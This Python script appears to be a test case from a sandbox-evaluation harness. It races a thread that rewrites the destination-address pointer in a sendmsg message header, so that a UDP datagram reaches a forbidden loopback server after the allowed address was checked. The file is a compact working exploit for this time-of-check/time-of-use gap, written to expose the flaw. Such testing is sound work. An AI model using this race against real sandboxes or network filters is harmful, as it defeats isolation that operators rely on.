"""A thread rewrites the pointer to the address in the header of a sendmsg."""

import ctypes
import socket
import struct

from attack import FACTS, SECONDS, call, main
from race import Race, address_of, shared_memory, until_won

PROMISE = "headers are copied once, with what they point to"
CONTROL = "the forbidden server received it"
ADVICE = "report it: message headers are copied once"
WITNESS = "datagram"


def name(last: int) -> bytes:
    return struct.pack("=H", socket.AF_INET) + struct.pack("!H4B8x", FACTS["raced_port"], 127, 0, 0, last)


def attempt() -> bool:
    names = shared_memory()
    names[:16], names[16:32], names[32:37] = name(1), name(2), b"raced"
    base = address_of(names)
    names[48:64] = struct.pack("=QQ", base + 32, 5)  # the one struct iovec
    headers = [struct.pack("=QI4xQQQQi4x", base + at, 16, base + 48, 1, 0, 0, 0) for at in (0, 16)]
    race = Race(*headers)
    race.by_thread()
    client = socket.socket(type=socket.SOCK_DGRAM)
    sent = [0]

    def send() -> bool:
        call("sendmsg", client.fileno(), ctypes.c_void_p(race.address), 0)
        sent[0] += 1
        return False

    until_won(send)
    print(f"{sent[0]} sent in {SECONDS} s")
    return sent[0] > 0  # the witness knows who received


main(attempt)
